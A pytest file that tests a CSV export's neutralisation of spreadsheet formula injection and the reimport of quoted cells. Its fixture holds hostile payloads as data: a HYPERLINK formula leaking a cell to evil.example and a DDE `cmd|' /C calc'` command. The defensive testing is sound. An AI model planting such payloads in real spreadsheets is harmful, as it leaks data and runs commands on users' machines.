"""The CSV export against formula injection (OWASP), and its way back in through a mapping."""

import csv
import io
from pathlib import Path
from typing import Any

import orjson
import pytest
from starlette.testclient import TestClient

from app.client.csv_mapping import Mapping, RowError, read_csv
from app.exports.service import neutralise_formula
from app.vocabulary.formats import FORMULA_TRIGGERS
from tests.servers import ROOT

EXPORT_MAPPING = ROOT / "docs" / "examples" / "export.mapping.toml"
HOSTILE = {
    "external_id": "x:1",
    "statement": '=HYPERLINK("https://evil.example/?leak="&A1,"Click for the source")',
    "speaker": {"name": "@evil", "role": "+31 20 555 0100", "affiliation": "-1+1"},
    "outlet": {"name": "=cmd|' /C calc'!A0"},
    "context": "@SUM(1+1)*cmd|' /C calc'!A0",
    "place": "-Kherson",
    "topics": ["=topic", "plain"],
    "status": "false",
    "verdict": "=1+1 is what the ad says; it is wrong.",
    "evidence": [{"title": "-The ad itself", "url": "https://example.org/ad"}],
}
HARMLESS = {
    "external_id": "x:2",
    "statement": "1+1=2, said the teacher; a -5 °C night, @ noon.",
    "speaker": {"name": "Jane Roe"},
    "context": "'quoted' from the start",
}


def post(client: TestClient, records: list[dict[str, Any]]) -> None:
    body = b"".join(orjson.dumps(record) + b"\n" for record in records)
    response = client.post(
        "/api/v1/imports", content=body, headers={"Content-Type": "application/x-ndjson"}
    )
    assert response.status_code == 200, response.text


def export_csv(client: TestClient) -> str:
    response = client.get("/api/v1/exports", params={"format": "csv"})
    assert response.status_code == 200
    return response.text


def export_rows(client: TestClient) -> dict[str, dict[str, str]]:
    rows = csv.DictReader(io.StringIO(export_csv(client), newline=""))
    return {row["external_id"]: row for row in rows}


class TestNeutraliseFormula:
    @pytest.mark.parametrize("trigger", FORMULA_TRIGGERS)
    def test_a_cell_beginning_with_a_trigger_gets_a_quote(self, trigger: str) -> None:
        assert neutralise_formula(f"{trigger}1+1") == f"'{trigger}1+1"

    @pytest.mark.parametrize("value", ["1+1=2", "Kherson", "", " =1", "'=1", "\n=1"])
    def test_any_other_cell_is_left_alone(self, value: str) -> None:
        assert neutralise_formula(value) == value

    def test_a_negative_number_is_a_cell_like_any_other(self) -> None:
        # Every export column is text: a number-looking cell is no exception.
        assert neutralise_formula("-5") == "'-5"

    def test_nothing_stays_nothing(self) -> None:
        assert neutralise_formula(None) is None


class TestCsvExport:
    def test_no_exported_cell_begins_with_a_formula_trigger(self, client: TestClient) -> None:
        post(client, [HOSTILE])
        row = export_rows(client)["x:1"]
        for column, value in row.items():
            assert not value.startswith(FORMULA_TRIGGERS), (column, value)
        assert row["statement"] == "'" + HOSTILE["statement"]
        assert row["speaker"] == "'@evil"
        assert row["speaker_role"] == "'+31 20 555 0100"
        assert row["speaker_affiliation"] == "'-1+1"
        assert row["outlet"] == "'=cmd|' /C calc'!A0"
        assert row["context"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
        assert row["place"] == "'-Kherson"
        assert row["topics"] == "'=topic;plain"
        assert row["verdict"] == "'=1+1 is what the ad says; it is wrong."

    def test_cells_that_only_contain_a_trigger_are_exported_as_they_are(
        self, client: TestClient
    ) -> None:
        post(client, [HARMLESS])
        row = export_rows(client)["x:2"]
        assert row["statement"] == HARMLESS["statement"]
        assert row["context"] == HARMLESS["context"]

    def test_every_data_cell_is_quoted(self, client: TestClient) -> None:
        post(client, [HOSTILE, HARMLESS])
        header, *lines = export_csv(client).splitlines()
        assert header.startswith("external_id,statement,")
        assert len(lines) == 2
        for line in lines:
            assert line.startswith('"'), line
            assert line.endswith('"'), line
        # A spreadsheet splitting on ; still sees one cell: the ; is inside the quotes.
        assert '"\'=1+1 is what the ad says; it is wrong."' in lines[0]


class TestReimportingTheCsvExport:
    def test_the_export_mapping_takes_the_quote_off_again(
        self, client: TestClient, tmp_path: Path
    ) -> None:
        post(client, [HOSTILE, HARMLESS])
        path = tmp_path / "claims.csv"
        path.write_text(export_csv(client), encoding="utf-8")
        items = list(read_csv(path, Mapping.load(EXPORT_MAPPING)))
        assert not [item for _, item in items if isinstance(item, RowError)]
        records = {item["external_id"]: item for _, item in items if isinstance(item, dict)}
        hostile = records["x:1"]
        assert hostile["statement"] == HOSTILE["statement"]
        assert hostile["speaker"] == HOSTILE["speaker"]
        assert hostile["outlet"] == HOSTILE["outlet"]
        assert hostile["place"] == HOSTILE["place"]
        assert hostile["context"] == HOSTILE["context"]
        assert hostile["topics"] == HOSTILE["topics"]
        assert (hostile["status"], hostile["verdict"]) == ("false", HOSTILE["verdict"])
        assert records["x:2"]["context"] == HARMLESS["context"]  # a ' of its own stays

    def test_the_reimport_changes_nothing_in_the_database_it_came_from(
        self, client: TestClient, tmp_path: Path
    ) -> None:
        post(client, [HOSTILE, HARMLESS])
        path = tmp_path / "claims.csv"
        path.write_text(export_csv(client), encoding="utf-8")
        records = [item for _, item in read_csv(path, Mapping.load(EXPORT_MAPPING))]
        body = b"".join(orjson.dumps(record) + b"\n" for record in records)
        summary = client.post(
            "/api/v1/imports", content=body, headers={"Content-Type": "application/x-ndjson"}
        ).json()
        assert (summary["unchanged"], summary["updated"], summary["failed"]) == (2, 0, 0), summary

    def test_without_the_option_the_quote_is_kept(self, tmp_path: Path) -> None:
        path = tmp_path / "sheet.csv"
        path.write_text('id,claim\nx1,"\'=1+1"\n', encoding="utf-8")
        mapping = tmp_path / "m.toml"
        mapping.write_text('[columns]\nexternal_id = "id"\nstatement = "claim"\n')
        [(_, record)] = list(read_csv(path, Mapping.load(mapping)))
        assert record["statement"] == "'=1+1"  # type: ignore[index]
